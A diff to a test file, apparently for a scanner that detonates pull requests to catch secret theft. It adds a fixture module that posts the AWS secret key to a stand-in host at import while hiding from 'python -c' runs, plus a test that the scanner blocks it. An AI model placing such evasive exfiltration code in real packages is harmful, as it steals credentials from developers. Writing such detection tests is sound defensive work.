@@ -471,6 +471,21 @@ THEFT_SETUP = (
 PACKAGE_JSON = (
     '{"name": "left-pad-ng", "version": "1.0.0", "scripts": {"postinstall": "node x.js"}}\n'
 )
+
+# A project of many top-level modules (30 sort before its own package), and a pull request
+# that adds a module to its package which sends a secret at import, but only when imported
+# as a program imports it: not under `python -c`, and only from the project's folder.
+MANY_MODULES = [f"aa{n:02}" for n in range(30)]
+MANY_SETUP = (
+    "from setuptools import setup\n"
+    f"setup(name='zzapp', version='0.1', packages=['zz_app'], py_modules={MANY_MODULES!r})\n"
+)
+QUIET_UNDER_C = """\
+import os, sys, urllib.request
+if sys.argv[0] not in ("-c", "") and os.path.exists("setup.py"):
+    urllib.request.urlopen("https://changed.exfil.test/t",
+                           data=os.environ["AWS_SECRET_ACCESS_KEY"].encode(), timeout=20)
+"""
 STEAL_JS = """\
 const https = require("https");
 const req = https.request(
@@ -615,6 +630,15 @@ CASES: dict[str, Case] = {
     ),
     "pinned-only": Case(
         scripted(), {"ci/test.sh": python(PINNED_TLS.replace("@READ@", 'key = "hello"'))}
+    ),
+    "import-tricks": Case(
+        {
+            "setup.py": MANY_SETUP,
+            **{f"{m}.py": "X = 1\n" for m in MANY_MODULES},
+            "zz_app/__init__.py": "",
+            ".cujo.yml": policy(),
+        },
+        {"zz_app/telemetry.py": QUIET_UNDER_C},
     ),
     "setup-py-theft": Case(
         {"setup.py": PLAIN_SETUP, "calc.py": CALC, ".cujo.yml": policy()}, {"setup.py": THEFT_SETUP}
@@ -1088,6 +1112,26 @@ def test_pinned_tls_without_a_decoy_read_is_only_egress(reviews: Reviews) -> Non
 
 
 # --------------------------------------------------------------------------- item 7
+
+
+def test_a_changed_module_past_the_cap_quiet_under_dash_c_is_imported_and_blocks(
+    reviews: Reviews,
+) -> None:
+    review = reviews.get("import-tricks")
+    assert_blocked(review, "decoy-egress")
+    (hit,) = findings(review, "decoy-egress")
+    assert "import-egress" in hit["rules"], hit
+    report = review.report("detonation")
+    sent = [e for e in report["egress"] if e["host"] == "changed.exfil.test"]
+    assert {e["phase"] for e in sent} == {"import"}, report["egress"]
+    # Imported as a program imports it: a script file, in the project's folder.
+    assert all(" zz_app.telemetry" in e["cmdline"] for e in sent), sent
+    assert not any(e["cmdline"].startswith("python -c") for e in sent), sent
+    # Every one of the project's 31 own modules was imported too: nothing was cut.
+    cuts = [c for c in report["cuts"] if c["limit"].startswith("detonation-")]
+    assert cuts == [], cuts
+    assert "/32 modules" in report["summary"], report["summary"]
+    assert_whole(review)
 
 
 def _theft(review: Review, host: str) -> list[dict[str, Any]]:
